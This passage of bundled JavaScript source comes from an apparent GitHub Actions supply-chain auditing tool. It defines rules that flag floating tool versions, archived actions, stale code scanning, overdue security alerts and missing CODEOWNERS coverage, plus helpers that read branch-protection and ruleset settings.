  { name: "pnpm/action-setup", input: "version", pinnedBy: [], floating: LATEST, defaultFloats: false, source: "https://github.com/pnpm/action-setup#version" },
  {
    name: "oven-sh/setup-bun",
    input: "bun-version",
    pinnedBy: ["bun-version-file"],
    floating: LATEST,
    defaultFloats: false,
    source: "https://github.com/oven-sh/setup-bun#inputs"
  },
  {
    name: "golangci/golangci-lint-action",
    input: "version",
    pinnedBy: [],
    floating: LATEST,
    defaultFloats: false,
    source: "https://github.com/golangci/golangci-lint-action#version"
  },
  {
    name: "goreleaser/goreleaser-action",
    input: "version",
    pinnedBy: [],
    floating: LATEST,
    defaultFloats: false,
    source: "https://github.com/goreleaser/goreleaser-action#inputs"
  }
];

// src/rules/build/floating-tool-version.ts
var BY_NAME2 = new Map(SETUP_TOOL_ACTIONS.map((action) => [action.name, action]));
var floatingToolVersion = defineWorkflowRule({
  meta: {
    id: "floating-tool-version",
    area: "build",
    severity: "low",
    title: "Setup action installs a floating tool version",
    rationale: "A tool installed at `latest` (or `stable`, `lts/*`...) changes under the build without a change to the repository: a new major can break it or change its output, and the build cannot be reproduced later. It also takes in a compromised release the day it is published.",
    remediation: "Name the version (`node-version: 22.11.0`, `go-version: 1.23.4`) or read it from a version file the repository pins (`node-version-file: .nvmrc`).",
    references: ["zizmor: unpinned-tools", "SLSA Build L3 (hermetic inputs)"],
    access: { token: "none" }
  },
  defaultOptions: {},
  step(step) {
    const uses = step.uses;
    if (!uses || uses.kind !== "remote" || !uses.owner || !uses.repo || uses.path) return null;
    const action = BY_NAME2.get(`${uses.owner}/${uses.repo}`.toLowerCase());
    if (!action || action.pinnedBy.some((name) => step.with.has(name))) return null;
    const entry2 = step.with.get(action.input);
    const value = entry2?.value;
    const where = `${stepOwner(step)}, step ${step.index + 1}`;
    if (!entry2) {
      if (!action.defaultFloats) return null;
      return {
        status: "fail",
        message: `${where}: ${action.name} without ${action.input} installs the newest release: each run may get a different version`,
        location: nodeLocation(stepDoc(step), uses.node),
        fix: `with:
  ${action.input}: <exact version>`
      };
    }
    if (!value || value.expressions.length > 0 || !action.floating.includes(value.value.trim().toLowerCase())) return null;
    return {
      status: "fail",
      message: `${where}: ${action.name} installs ${action.input} "${value.value.trim()}", a moving version: each run may get a different one`,
      location: nodeLocation(stepDoc(step), value.node),
      fix: `${action.input}: <exact version>`
    };
  }
});

// src/rules/build/archived-action.ts
var archivedAction = defineWorkflowRule({
  meta: {
    id: "archived-action",
    area: "build",
    // Medium: nothing is known to be wrong with the code today (known-vulnerable-actions reports that, at
    // the advisory's severity), but the action runs with the job's token and secrets and whatever is found
    // in it from now on will not be fixed upstream; the risk grows with time rather than being present now.
    severity: "medium",
    title: "Action from an archived repository",
    rationale: "An archived repository is read-only: its owner has stopped maintaining it. A vulnerability found in the action (or in the dependencies it bundles) will get no fixed release, and reports to it go unanswered, while the action keeps running with the job's token and secrets.",
    remediation: "Replace the action with a maintained one (the archive notice often names a successor), or, if you must keep it, copy the reviewed code into the repository as a local action that you maintain.",
    references: ["SSC-45", "OSPS-BR-01", "zizmor: archived-uses"],
    access: {
      token: "github-token",
      githubToken: [],
      note: "GraphQL `Repository.isArchived`, in the batches that resolve action references (no request of its own)"
    }
  },
  needs: [actionRefsFact],
  gapsHandled: [actionRefsFact],
  defaultOptions: {},
  model(_model, ctx) {
    const resolved = resolvedSites(ctx);
    const results = [];
    for (const site of resolved.sites) {
      const resolution = resolved.refs.refs[site.key];
      const location = locate(site.file, site.node);
      const slug = `${site.owner}/${site.repo}`;
      const what2 = site.level === "job" ? "reusable workflow" : "action";
      if (!resolution) {
        results.push({ status: "unknown", message: `${site.value}: the reference was not resolved: whether ${slug} is archived is not known`, location });
      } else if (resolution.status === "repo-not-found") {
        results.push({
          status: "unknown",
          message: `${site.value}: repository ${slug} is not visible to the token (private, deleted or renamed): whether it is archived cannot be checked`,
          location,
          permission: `Contents: read on ${slug}`
        });
      } else if (resolution.isArchived === true) {
        results.push({
          status: "fail",
          message: `${site.value}: the ${what2}'s repository ${slug} is archived: it gets no more fixes, security fixes included`,
          location
        });
      } else if (resolution.isArchived === void 0) {
        results.push({
          status: "unknown",
          message: `${site.value}: could not check whether ${slug} is archived: ${resolution.error ?? "GitHub's answer did not say"}`,
          location
        });
      }
    }
    return results;
  }
});

// src/rules/build/index.ts
var buildRules = [invalidWorkflow, unpinnedUses, excessivePermissions];
buildRules.push(
  knownVulnerableActions,
  impostorCommit,
  refConfusion,
  refVersionMismatch,
  unpinnedImages,
  artipacked,
  secretsInherit,
  overprovisionedSecrets,
  unredactedSecrets,
  hardcodedContainerCredentials,
  selfHostedRunner,
  insecureCommands,
  downloadExecute,
  useTrustedPublishing,
  debugLogging,
  actionsDefaultPermissions,
  actionsCanApprovePrs,
  actionsAllowedActions,
  actionsShaPinningRequired,
  actionsForkPrApproval,
  releaseEnvironmentProtection
);
buildRules.push(
  templateInjection,
  dangerousTriggers,
  untrustedCheckout,
  pwnRequest,
  cachePoisoning,
  githubEnv,
  unsoundCondition,
  botConditions,
  unsoundContains
);
buildRules.push(promptInjection);
buildRules.push(baseImagePolicy);
buildRules.push(githubAppTokenScope, typosquattedAction, floatingToolVersion);
buildRules.push(archivedAction);

// src/github/facts/security.ts
var ADMIN_READ = "Administration: read (repository admin; GITHUB_TOKEN cannot read security settings; pass admin-token)";
var securitySettingsFact = defineFact("github.security-settings", async (ctx) => {
  const repository = await ctx.get(repositoryFact);
  if (!repository.known) return repository;
  const sa = repository.value.security_and_analysis;
  if (!sa) {
    return unknownFact(
      "permission",
      `the security settings of ${repository.value.full_name} were not returned: GitHub shows security_and_analysis only to repository admins and security managers`,
      ADMIN_READ
    );
  }
  const status = (value) => value?.status === "enabled" || value?.status === "disabled" ? value.status : void 0;
  const settings = { visibility: repository.value.visibility ?? (repository.value.private ? "private" : "public") };
  const secretScanning2 = status(sa.secret_scanning);
  const pushProtection = status(sa.secret_scanning_push_protection);
  const updates = status(sa.dependabot_security_updates);
  const advanced = status(sa.advanced_security);
  if (secretScanning2) settings.secretScanning = secretScanning2;
  if (pushProtection) settings.pushProtection = pushProtection;
  if (updates) settings.dependabotSecurityUpdates = updates;
  if (advanced) settings.advancedSecurity = advanced;
  return known(settings);
});
var dependabotSecurityUpdatesFact = defineFact("github.dependabot-security-updates", async (ctx) => {
  const settings = await ctx.get(securitySettingsFact);
  if (settings.known && settings.value.dependabotSecurityUpdates === "disabled") return known({ enabled: false, paused: false });
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const data = (await client.octokit.request("GET /repos/{owner}/{repo}/automated-security-fixes", { owner, repo })).data;
      return { enabled: data.enabled, paused: data.paused };
    },
    {
      what: `Dependabot security updates of ${owner}/${repo}`,
      permission: ADMIN_READ,
      // 404 here means "not enabled" for an admin, and "not visible" for others: only the former is an answer.
      onNotFound: () => void 0
    }
  );
});
var privateVulnerabilityReportingFact = defineFact("github.private-vulnerability-reporting", async (ctx) => {
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => ({
      enabled: (await client.octokit.request("GET /repos/{owner}/{repo}/private-vulnerability-reporting", { owner, repo })).data.enabled
    }),
    {
      what: `private vulnerability reporting of ${owner}/${repo}`,
      permission: "Administration: read",
      ghesFeature: "private vulnerability reporting",
      // 422: the feature does not exist for this repository (GitHub offers it for public repositories).
      onStatus: (error) => error.status === 422 ? unknownFact(
        "not-available",
        `private vulnerability reporting is not available for ${owner}/${repo} (GitHub answered 422: ${error.message.split("\n")[0]})`
      ) : void 0
    }
  );
});
var DISABLED = /disabled|not enabled|must be enabled|no analysis found|advanced security/i;
function disabledAnswer(status) {
  return (error) => status.includes(error.status) && DISABLED.test(error.message) ? known({ enabled: false, alerts: [], disabledBecause: error.message.split("\n")[0] }) : void 0;
}
var dependabotAlertsFact = defineFact("github.dependabot-alerts", async (ctx) => {
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const { items: items2 } = await listAll(client, "GET /repos/{owner}/{repo}/dependabot/alerts", { owner, repo, state: "open" });
      return {
        enabled: true,
        alerts: items2.map((item) => ({
          number: item.number,
          severity: item.security_vulnerability.severity,
          package: item.dependency.package?.name ?? "unknown package",
          ecosystem: item.dependency.package?.ecosystem ?? "",
          manifestPath: item.dependency.manifest_path ?? "",
          advisory: item.security_advisory.ghsa_id,
          createdAt: item.created_at,
          htmlUrl: item.html_url
        }))
      };
    },
    {
      what: `open Dependabot alerts of ${owner}/${repo}`,
      permission: 'vulnerability-alerts: read (GITHUB_TOKEN), or "Dependabot alerts: read" (fine-grained PAT / App)',
      onStatus: disabledAnswer([403, 404])
    }
  );
});
var RULE_SEVERITY = { error: "high", warning: "medium", note: "low" };
var codeScanningAlertsFact = defineFact("github.code-scanning-alerts", async (ctx) => {
  const branch = await ctx.get(defaultBranchFact);
  if (!branch.known) return branch;
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const { items: items2 } = await listAll(client, "GET /repos/{owner}/{repo}/code-scanning/alerts", { owner, repo, state: "open", ref: `refs/heads/${branch.value}` });
      return {
        enabled: true,
        alerts: items2.map((item) => ({
          number: item.number,
          severity: item.rule.security_severity_level ?? RULE_SEVERITY[item.rule.severity ?? ""] ?? "low",
          rule: item.rule.id ?? item.rule.description ?? "unknown rule",
          tool: item.tool.name ?? "unknown tool",
          path: item.most_recent_instance?.location?.path ?? null,
          line: item.most_recent_instance?.location?.start_line ?? null,
          createdAt: item.created_at,
          htmlUrl: item.html_url
        }))
      };
    },
    {
      what: `open code scanning alerts of ${owner}/${repo}`,
      permission: "security-events: read",
      onStatus: disabledAnswer([403, 404]),
      ghesFeature: "code scanning"
    }
  );
});
var secretScanningAlertsFact = defineFact("github.secret-scanning-alerts", async (ctx) => {
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const { items: items2 } = await listAll(client, "GET /repos/{owner}/{repo}/secret-scanning/alerts", { owner, repo, state: "open", hide_secret: true });
      return {
        enabled: true,
        alerts: items2.map((item) => ({
          number: item.number,
          secretType: item.secret_type_display_name ?? item.secret_type ?? "secret",
          createdAt: item.created_at,
          htmlUrl: item.html_url,
          ...item.validity ? { validity: item.validity } : {},
          ...typeof item.publicly_leaked === "boolean" ? { publiclyLeaked: item.publicly_leaked } : {}
        }))
      };
    },
    {
      what: `open secret scanning alerts of ${owner}/${repo}`,
      permission: '"Secret scanning alerts: read" (fine-grained PAT / GitHub App; the GITHUB_TOKEN cannot read them; pass admin-token)',
      onStatus: disabledAnswer([404]),
      ghesFeature: "secret scanning"
    }
  );
});
var codeScanningAnalysesFact = defineFact("github.code-scanning-analyses", async (ctx) => {
  const branch = await ctx.get(defaultBranchFact);
  if (!branch.known) return branch;
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const response = await client.octokit.request("GET /repos/{owner}/{repo}/code-scanning/analyses", {
        owner,
        repo,
        ref: `refs/heads/${branch.value}`,
        per_page: 20
      });
      const analyses = response.data.map(
        (item) => ({
          createdAt: item.created_at,
          tool: item.tool.name ?? "unknown tool",
          category: item.category ?? "",
          ref: item.ref,
          error: item.error
        })
      );
      return { enabled: analyses.length > 0, analyses };
    },
    {
      what: `code scanning analyses of ${owner}/${repo}`,
      permission: "security-events: read",
      onStatus: (error) => (error.status === 404 || error.status === 403) && DISABLED.test(error.message) ? known({ enabled: false, analyses: [] }) : void 0,
      ghesFeature: "code scanning"
    }
  );
});

// src/rules/code/code-scanning.ts
var codeScanning = defineRule({
  meta: {
    id: "code-scanning",
    area: "code",
    severity: "medium",
    title: "Code scanning has not run recently on the default branch",
    rationale: "Static analysis that stopped running (a broken workflow, a disabled default setup) gives the impression of coverage without any.",
    remediation: "Enable CodeQL default setup (Settings > Code security) or a code scanning workflow on pushes to the default branch and a weekly schedule; include the `actions` language to scan workflows.",
    references: ["SSC-29", "SSC-31", "Scorecard: SAST", "OSPS-VM-06"],
    access: {
      token: "github-token",
      githubToken: ["security-events: read"],
      fineGrained: ["Code scanning alerts: read"],
      note: "Private repositories need GitHub Code Security / Advanced Security."
    }
  },
  needs: [codeScanningAnalysesFact, defaultBranchFact],
  defaultOptions: { maxAgeDays: 30 },
  strictOptions: { maxAgeDays: 8 },
  optionsSchema: {
    type: "object",
    properties: { maxAgeDays: { type: "integer", minimum: 1, description: "Newest analysis on the default branch must be at most this old." } }
  },
  evaluate(ctx) {
    const fact = ctx.need(codeScanningAnalysesFact);
    const branch = ctx.need(defaultBranchFact);
    const newest = fact.analyses[0];
    if (!fact.enabled || !newest) return [{ status: "fail", message: `no code scanning analysis found for ${branch}` }];
    const age = ageInDays(newest.createdAt, ctx.now) ?? Number.POSITIVE_INFINITY;
    const tools = [...new Set(fact.analyses.map((analysis) => analysis.tool))].join(", ");
    if (age > ctx.options.maxAgeDays) {
      return [
        {
          status: "fail",
          message: `the newest code scanning analysis of ${branch} is ${age} days old (${newest.tool}, ${newest.createdAt}); the policy allows ${ctx.options.maxAgeDays}`
        }
      ];
    }
    return [{ status: "pass", message: `code scanning ran on ${branch} ${age} day(s) ago (${tools})` }];
  }
});

// src/rules/code/alert-sla-support.ts
var DEFAULT_SLA = { minSeverity: "high", slaDays: { critical: 7, high: 30, medium: 90, low: 180 } };
var SLA_OPTIONS_SCHEMA = {
  type: "object",
  properties: {
    minSeverity: { enum: ["critical", "high", "medium", "low"], description: "Lowest alert severity that counts." },
    slaDays: {
      type: "object",
      additionalProperties: false,
      properties: {
        critical: { type: "integer", minimum: 0 },
        high: { type: "integer", minimum: 0 },
        medium: { type: "integer", minimum: 0 },
        low: { type: "integer", minimum: 0 }
      },
      description: "Days an open alert of each severity is tolerated."
    }
  }
};
function alertSeverity(text) {
  const lower2 = text.toLowerCase();
  return lower2 === "critical" || lower2 === "high" || lower2 === "medium" || lower2 === "low" ? lower2 : lower2 === "moderate" ? "medium" : "low";
}
function overdue(severity, createdAt, now, options) {
  const age = ageInDays(createdAt, now) ?? 0;
  if (severity === "info" || !atLeast(severity, options.minSeverity)) return { overdue: false, age, sla: 0 };
  const sla = { ...DEFAULT_SLA.slaDays, ...options.slaDays }[severity];
  return { overdue: age > sla, age, sla };
}
function fileLocation(path14, line) {
  if (!path14) return void 0;
  const at = line && line > 0 ? line : 1;
  return { path: path14, startLine: at, startColumn: 1, endLine: at, endColumn: 1 };
}

// src/rules/code/code-scanning-alert-sla.ts
var codeScanningAlertSla = defineRule({
  meta: {
    id: "code-scanning-alert-sla",
    area: "code",
    severity: "high",
    title: "Code scanning alert open past its SLA",
    rationale: "A vulnerability found by static analysis and left open is a known, unfixed weakness on the default branch.",
    remediation: "Fix the code, or dismiss the alert with a reason (false positive, used in tests), or add a policy waiver for the file with an expiry date.",
    references: ["SSC-29", "SSC-30", "SSC-18", "OSPS-VM-05"],
    access: {
      token: "github-token",
      githubToken: ["security-events: read"],
      fineGrained: ["Code scanning alerts: read"],
      note: "Severity is the security severity (critical/high/medium/low); alerts without one map error/warning/note to high/medium/low."
    }
  },
  needs: [codeScanningAlertsFact],
  defaultOptions: DEFAULT_SLA,
  strictOptions: { minSeverity: "medium" },
  optionsSchema: SLA_OPTIONS_SCHEMA,
  evaluate(ctx) {
    const fact = ctx.need(codeScanningAlertsFact);
    if (!fact.enabled)
      return [
        {
          status: "unknown",
          message: `code scanning is not set up, so open alerts cannot be checked (${fact.disabledBecause ?? ""})`.trim(),
          permission: "enable code scanning"
        }
      ];
    const results = [];
    for (const alert of fact.alerts) {
      const severity = alertSeverity(alert.severity);
      const state = overdue(severity, alert.createdAt, ctx.now, ctx.options);
      if (!state.overdue) continue;
      const location = fileLocation(alert.path, alert.line);
      results.push({
        status: "fail",
        severity,
        message: `code scanning alert #${alert.number} (${severity}) ${alert.rule} from ${alert.tool} has been open ${state.age} days; SLA ${state.sla} days: ${alert.htmlUrl}`,
        ...location ? { location } : {}
      });
    }
    if (results.length === 0)
      return [{ status: "pass", message: `${fact.alerts.length} open code scanning alert(s), none ${ctx.options.minSeverity} or above past its SLA` }];
    return results;
  }
});

// src/github/facts/codeowners.ts
var CODEOWNERS_LOCATIONS = [".github/CODEOWNERS", "CODEOWNERS", "docs/CODEOWNERS"];
function parseCodeowners(text) {
  const lines2 = [];
  text.split(/\r?\n/).forEach((raw, index) => {
    const withoutComment = raw.replace(/(^|\s)#.*$/, "").trim();
    if (!withoutComment) return;
    const tokens = withoutComment.match(/(?:\\\s|\S)+/g) ?? [];
    const [pattern, ...owners] = tokens;
    if (!pattern) return;
    lines2.push({ pattern: pattern.replace(/\\(\s)/g, "$1"), owners, line: index + 1 });
  });
  return lines2;
}
function codeownersPatternMatches(pattern, path14) {
  let body = pattern;
  const directoryOnly = body.endsWith("/");
  if (directoryOnly) body = body.replace(/\/+$/, "");
  const anchored = body.startsWith("/") || body.includes("/");
  body = body.replace(/^\/+/, "");
  if (body === "" || body === "*" || body === "**") return true;
  const glob = anchored ? body : `**/${body}`;
  const options = { dot: true, nobrace: true, noext: true, nocomment: true, nonegate: true };
  const { minimatch } = globLibrary();
  if (directoryOnly) return minimatch(path14, `${glob}/**`, options);
  if (minimatch(path14, glob, options)) return true;
  if (body.endsWith("/*")) return false;
  return minimatch(path14, `${glob}/**`, options);
}
function ownersOf(lines2, path14) {
  for (let index = lines2.length - 1; index >= 0; index -= 1) {
    const line = lines2[index];
    if (codeownersPatternMatches(line.pattern, path14)) return { owners: line.owners, line };
  }
  return { owners: [], line: null };
}
var codeownersFileFact = defineFact("codeowners-file", async (ctx) => {
  const files = new Set(ctx.workspace.files());
  const path14 = CODEOWNERS_LOCATIONS.find((candidate) => files.has(candidate)) ?? null;
  if (!path14) return known({ path: null, lines: [] });
  const read = ctx.workspace.readText(path14);
  if (!read.ok) return unknownFact("api-error", `could not read ${path14}: ${read.reason}`);
  return known({ path: path14, lines: parseCodeowners(read.text) });
});
var codeownersErrorsFact = defineFact("github.codeowners-errors", async (ctx) => {
  if (!ctx.target) return noTarget();
  const file = await ctx.get(codeownersFileFact);
  if (file.known && !file.value.path) return unknownFact("not-applicable", "the checkout has no CODEOWNERS file");
  const repository = await ctx.get(repositoryFact);
  if (!repository.known) return repository;
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const data = (await client.octokit.request("GET /repos/{owner}/{repo}/codeowners/errors", { owner, repo })).data;
      return {
        found: true,
        errors: data.errors.map((error) => ({ line: error.line, column: error.column, kind: error.kind, message: error.message, path: error.path }))
      };
    },
    {
      what: `CODEOWNERS errors of ${owner}/${repo}`,
      permission: "Metadata: read",
      // GitHub answers 404 when the default branch has no CODEOWNERS file (the repository is visible: above).
      onNotFound: () => known({ found: false, errors: [] })
    }
  );
});

// src/github/facts/workspace-paths.ts
var CHAINGATE_USES = /(^|\/)chaingate(@|\/|$)/i;
function record(value) {
  return typeof value === "object" && value !== null && !Array.isArray(value) ? value : null;
}
function chaingateJobNames(workflow) {
  const jobs = record(record(workflow)?.jobs);
  if (!jobs) return [];
  const names = [];
  for (const [id, raw] of Object.entries(jobs)) {
    const job = record(raw);
    if (!job) continue;
    const steps = Array.isArray(job.steps) ? job.steps : [];
    const usesChaingate = typeof job.uses === "string" && CHAINGATE_USES.test(
      job.uses.split("@")[0].replace(/\.ya?ml$/, "").split("/").pop() ?? ""
    ) || steps.some((step) => {
      const uses = record(step)?.uses;
      return typeof uses === "string" && CHAINGATE_USES.test(uses);
    });
    if (!usesChaingate) continue;
    names.push(typeof job.name === "string" && !job.name.includes("${{") ? job.name : id);
  }
  return names;
}
var workflowPathsFact = defineFact("workspace.posture-paths", async (ctx) => {
  const files = ctx.workspace.files();
  const workflows = files.filter((file) => /^\.github\/workflows\/[^/]+\.ya?ml$/.test(file));
  const policy = DEFAULT_POLICY_PATHS.find((candidate) => files.includes(candidate)) ?? null;
  const chaingateJobs = [];
  for (const path14 of workflows) {
    const read = ctx.workspace.readText(path14);
    if (!read.ok || !/chaingate/i.test(read.text)) continue;
    const parsed = parseWorkflowText(path14, "workflow", read.text);
    if (parsed.ok) {
      for (const name of chaingateJobNames(parsed.file.value)) if (!chaingateJobs.includes(name)) chaingateJobs.push(name);
    }
  }
  return known({ workflows, policy, chaingateJobs });
});

// src/rules/code/codeowners.ts
var codeowners = defineRule({
  meta: {
    id: "codeowners",
    area: "code",
    severity: "medium",
    title: "CODEOWNERS missing, invalid or not covering workflows and policy",
    rationale: "Workflows hold the keys to releases and the policy decides what the gate accepts: a change to either should need its owners. GitHub silently ignores CODEOWNERS lines with errors.",
    remediation: "Add .github/CODEOWNERS with owners for `/.github/workflows/`, `/.github/actions/`, the policy file and CODEOWNERS itself, fix the errors GitHub lists, and require code-owner review.",
    references: ["SSC-39", "Secure use: CODEOWNERS for workflows", "CNCF SSCP: responsible individuals", "Allstar: CODEOWNERS"],
    access: {
      token: "github-token",
      githubToken: ["contents: read"],
      fineGrained: ["Metadata: read", "Contents: read"],
      note: "Coverage is read from the checkout; syntax errors come from GitHub (default branch)."
    }
  },
  needs: [codeownersFileFact, workflowPathsFact],
  uses: [codeownersErrorsFact],
  defaultOptions: { paths: [] },
  strictOptions: { paths: ["action.yml", ".github/actions/example/action.yml"] },
  optionsSchema: {
    type: "object",
    properties: { paths: { type: "array", items: { type: "string" }, description: "More file paths that must have an owner." } }
  },
  evaluate(ctx) {
    const file = ctx.need(codeownersFileFact);
    const workflows = ctx.need(workflowPathsFact);
    if (!file.path) {
      return [
        { status: "fail", message: `no CODEOWNERS file (${CODEOWNERS_LOCATIONS.join(", ")}): nobody is required to review changes to workflows or the policy` }
      ];
    }
    const path14 = file.path;
    const results = [];
    const errors = ctx.fact(codeownersErrorsFact);
    if (!errors.known) {
      results.push({
        status: "unknown",
        message: `GitHub's check of ${path14} could not be read: ${errors.reason}`,
        ...errors.permission ? { permission: errors.permission } : {}
      });
    } else if (!errors.value.found) {
      results.push({ status: "fail", message: `${path14} is in the checkout, but GitHub finds no CODEOWNERS file on the default branch` });
    } else {
      for (const error of errors.value.errors) {
        results.push({
          status: "fail",
          message: `${error.path}:${error.line}: ${error.kind}: ${error.message.split("\n")[0]}`,
          location: { path: error.path || path14, startLine: error.line, startColumn: error.column, endLine: error.line, endColumn: error.column }
        });
      }
    }
    const required = [
      .../* @__PURE__ */ new Set([...workflows.workflows, ".github/workflows/any-new-workflow.yml", workflows.policy ?? ".github/chaingate.yml", path14, ...ctx.options.paths])
    ];
    const unowned = required.filter((candidate) => ownersOf(file.lines, candidate).owners.length === 0);
    if (unowned.length > 0) {
      results.push({
        status: "fail",
        message: `${path14} gives no owner to ${unowned.join(", ")}`,
        location: { path: path14, startLine: 1, startColumn: 1, endLine: 1, endColumn: 1 }
      });
    }
    if (results.length === 0) return [{ status: "pass", message: `${path14} is valid and owns the workflows, the policy and itself` }];
    return results;
  }
});

// src/posture/protection.ts
function emptySettings() {
  return {
    pullRequest: false,
    approvals: 0,
    dismissStale: false,
    lastPushApproval: false,
    codeOwnerReview: false,
    statusChecks: [],
    requiredWorkflows: [],
    strictStatusChecks: false,
    blocksForcePush: false,
    blocksDeletion: false,
    signedCommits: false,
    linearHistory: false,
    protections: [],
    sources: {}
  };
}
function note(settings, name, source) {
  const list = settings.sources[name] ??= [];
  if (!list.includes(source)) list.push(source);
}
function rulesetLabel(rule, rulesets = []) {
  const found = rulesets.find((ruleset) => ruleset.id === rule.ruleset_id);
  const name = found ? `ruleset "${found.name}"` : rule.ruleset_id !== void 0 ? `ruleset ${rule.ruleset_id}` : "a ruleset";
  const level = (rule.ruleset_source_type ?? found?.sourceType ?? "Repository").toLowerCase();
  const source = rule.ruleset_source ?? found?.source;
  return source ? `${name} (${level} ${source})` : name;
}
var PROTECTIVE_RULE_TYPES = /* @__PURE__ */ new Set([
  "pull_request",
  "non_fast_forward",
  "update",
  "required_status_checks",
  "required_signatures",
  "required_linear_history",
  "required_deployments",
  "merge_queue",
  "deletion",
  "creation"
]);
function settingsFromRules(rules, rulesets = []) {
  const settings = emptySettings();
  for (const raw of rules) {
    const source = rulesetLabel(raw, rulesets);
    const parameters = raw.parameters ?? {};
    if (PROTECTIVE_RULE_TYPES.has(raw.type) && !settings.protections.includes(raw.type)) settings.protections.push(raw.type);
    switch (raw.type) {
      case "pull_request": {
        settings.pullRequest = true;
        note(settings, "pullRequest", source);
        const approvals = Number(parameters.required_approving_review_count ?? 0);
        if (approvals > settings.approvals) {
          settings.approvals = approvals;
          settings.sources.approvals = [source];
        } else if (approvals === settings.approvals && approvals > 0) note(settings, "approvals", source);
        if (parameters.dismiss_stale_reviews_on_push === true) {
          settings.dismissStale = true;
          note(settings, "dismissStale", source);
        }
        if (parameters.require_last_push_approval === true) {
          settings.lastPushApproval = true;
          note(settings, "lastPushApproval", source);
        }
        if (parameters.require_code_owner_review === true) {
          settings.codeOwnerReview = true;
          note(settings, "codeOwnerReview", source);
        }
        break;
      }
      case "required_status_checks": {
        const checks = Array.isArray(parameters.required_status_checks) ? parameters.required_status_checks : [];
        for (const check3 of checks) {
          if (check3.context && !settings.statusChecks.includes(check3.context)) settings.statusChecks.push(check3.context);
        }
        if (checks.length > 0) note(settings, "statusChecks", source);
        if (parameters.strict_required_status_checks_policy === true) {
          settings.strictStatusChecks = true;
          note(settings, "strictStatusChecks", source);
        }
        break;
      }
      case "workflows": {
        const workflows = Array.isArray(parameters.workflows) ? parameters.workflows : [];
        for (const workflow of workflows) {
          if (!workflow.path) continue;
          const id = `${workflow.repository_id ?? "?"}:${workflow.path}${workflow.ref ? `@${workflow.ref}` : ""}`;
          if (!settings.requiredWorkflows.includes(id)) settings.requiredWorkflows.push(id);
        }
        if (workflows.length > 0) note(settings, "requiredWorkflows", source);
        break;
      }
      case "non_fast_forward":
      case "update":
        settings.blocksForcePush = true;
        note(settings, "blocksForcePush", source);
        break;
      case "deletion":
        settings.blocksDeletion = true;
        note(settings, "blocksDeletion", source);
        break;
      case "required_signatures":
        settings.signedCommits = true;
        note(settings, "signedCommits", source);
        break;
      case "required_linear_history":
        settings.linearHistory = true;
        note(settings, "linearHistory", source);
        break;
      default:
        break;
    }
  }
  return settings;
}
function settingsFromClassic(protection) {
  const settings = emptySettings();
  if (!protection) return settings;
  const source = "classic branch protection";
  settings.protections.push("classic");
  const reviews = protection.required_pull_request_reviews;
  if (reviews) {
    settings.pullRequest = true;
    note(settings, "pullRequest", source);
    settings.approvals = reviews.required_approving_review_count ?? 0;
    if (settings.approvals > 0) note(settings, "approvals", source);
    if (reviews.dismiss_stale_reviews) {
      settings.dismissStale = true;
      note(settings, "dismissStale", source);
    }
    if (reviews.require_last_push_approval) {
      settings.lastPushApproval = true;
      note(settings, "lastPushApproval", source);
    }
    if (reviews.require_code_owner_reviews) {
      settings.codeOwnerReview = true;
      note(settings, "codeOwnerReview", source);
    }
  }
  const checks = protection.required_status_checks;
  if (checks) {
    const contexts = /* @__PURE__ */ new Set([...checks.contexts ?? [], ...(checks.checks ?? []).map((check3) => check3.context)]);
    settings.statusChecks = [...contexts];
    if (settings.statusChecks.length > 0) note(settings, "statusChecks", source);
    if (checks.strict) {
      settings.strictStatusChecks = true;
      note(settings, "strictStatusChecks", source);
    }
  }
  if (protection.allow_force_pushes?.enabled === false) {
    settings.blocksForcePush = true;
    note(settings, "blocksForcePush", source);
  }
  if (protection.allow_deletions?.enabled === false) {
    settings.blocksDeletion = true;
    note(settings, "blocksDeletion", source);
  }
  if (protection.required_signatures?.enabled === true) {
    settings.signedCommits = true;
    note(settings, "signedCommits", source);
  }
  if (protection.required_linear_history?.enabled === true) {
    settings.linearHistory = true;
    note(settings, "linearHistory", source);
  }
  return settings;
}
function mergeSettings(a, b) {
  const merged = emptySettings();
  const booleans = [
    "pullRequest",
    "dismissStale",
    "lastPushApproval",
    "codeOwnerReview",
    "strictStatusChecks",
    "blocksForcePush",
    "blocksDeletion",
    "signedCommits",
    "linearHistory"
  ];
  for (const name of booleans) {
    merged[name] = a[name] || b[name];
    const sources = [...a[name] ? a.sources[name] ?? [] : [], ...b[name] ? b.sources[name] ?? [] : []];
    if (sources.length) merged.sources[name] = sources;
  }
  merged.approvals = Math.max(a.approvals, b.approvals);
  const approvalSources = [
    ...a.approvals === merged.approvals ? a.sources.approvals ?? [] : [],
    ...b.approvals === merged.approvals ? b.sources.approvals ?? [] : []
  ];
  if (approvalSources.length && merged.approvals > 0) merged.sources.approvals = approvalSources;
  merged.statusChecks = [.../* @__PURE__ */ new Set([...a.statusChecks, ...b.statusChecks])];
  merged.requiredWorkflows = [.../* @__PURE__ */ new Set([...a.requiredWorkflows, ...b.requiredWorkflows])];
  const workflowSources = [...a.sources.requiredWorkflows ?? [], ...b.sources.requiredWorkflows ?? []];
  if (workflowSources.length) merged.sources.requiredWorkflows = workflowSources;
  const checkSources = [...a.sources.statusChecks ?? [], ...b.sources.statusChecks ?? []];
  if (checkSources.length) merged.sources.statusChecks = checkSources;
  merged.protections = [.../* @__PURE__ */ new Set([...a.protections, ...b.protections])];
  return merged;
}
function judge(fromRules, classic, holds) {
  if (holds(fromRules)) {
    const settings = classic.known ? mergeSettings(fromRules, settingsFromClassic(classic.value.protection)) : fromRules;
    return { status: "pass", settings };
  }
  if (!classic.known) {
    return { status: "unknown", settings: fromRules, reason: classic.reason, permission: classic.permission ?? "Administration: read" };
  }
  const merged = mergeSettings(fromRules, settingsFromClassic(classic.value.protection));
  return holds(merged) ? { status: "pass", settings: merged } : { status: "fail", settings: merged };
}
function sourcesOf(settings, name) {
